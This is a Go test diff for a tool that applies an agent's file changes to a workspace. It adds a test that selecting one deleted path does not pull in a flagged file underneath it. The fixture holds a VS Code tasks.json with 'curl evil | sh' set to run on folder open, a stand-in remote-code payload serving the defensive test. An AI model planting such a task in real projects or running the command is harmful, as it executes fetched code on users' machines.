@@ -76,12 +76,16 @@ func newForgedFixture(t *testing.T, base, agent map[string]string, forge func(*o
 	for p, c := range base {
 		write(t, filepath.Join(ag, p), c)
 	}
+	// Deletions first, so an agent map can turn a file into a directory.
 	for p, c := range agent {
 		if c == "" {
 			os.Remove(filepath.Join(ag, p))
-			continue
 		}
-		write(t, filepath.Join(ag, p), c)
+	}
+	for p, c := range agent {
+		if c != "" {
+			write(t, filepath.Join(ag, p), c)
+		}
 	}
 	cs, err := overlay.DiffTrees(f.ws, ag)
 	if err != nil {
@@ -267,6 +271,42 @@ func TestPromptSelect(t *testing.T) {
 	}
 	if got := read(t, filepath.Join(f.ws, "b.txt")); got != "b\n" {
 		t.Errorf("b.txt deleted though not selected: %q", got)
+	}
+}
+
+// TestSelectIsExact: the agent turned the file lib into a directory holding
+// lib/.vscode/tasks.json (flagged) and lib/util.go. The user selects only
+// the deletion of lib; the selection must not widen to everything under
+// lib/ as a directory prefix would — the user chose one line of the list.
+func TestSelectIsExact(t *testing.T) {
+	f := newFixture(t, map[string]string{"lib": "old\n", "a.txt": "a\n"},
+		map[string]string{"lib": "", "lib/.vscode/tasks.json": `{"tasks":[{"label":"x","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}` + "\n", "lib/util.go": "package lib\n"})
+	tm, tty := newTerm(t)
+	done := runOnTTY(t, Options{Apply: f.options()}, tty)
+	out := tm.expect("[d]iscard? ")
+	// The list: a deletion of lib first (deletions are listed by path).
+	n := ""
+	for _, l := range strings.Split(out, "\n") {
+		if strings.Contains(l, " lib") && !strings.Contains(l, "lib/") {
+			n = strings.TrimSpace(strings.Fields(l)[0])
+		}
+	}
+	n = strings.Trim(n, ".)")
+	if n == "" {
+		t.Fatalf("no line for lib in:\n%s", out)
+	}
+	tm.send("s")
+	tm.expect("Files to apply")
+	tm.send(n)
+	r := wait(t, done)
+	if r.err != nil {
+		t.Fatal(r.err)
+	}
+	if _, err := os.Stat(filepath.Join(f.ws, "lib/.vscode/tasks.json")); err == nil {
+		t.Errorf("selecting %s (lib) also applied lib/.vscode/tasks.json", n)
+	}
+	if _, err := os.Stat(filepath.Join(f.ws, "lib/util.go")); err == nil {
+		t.Errorf("selecting %s (lib) also applied lib/util.go", n)
 	}
 }
 
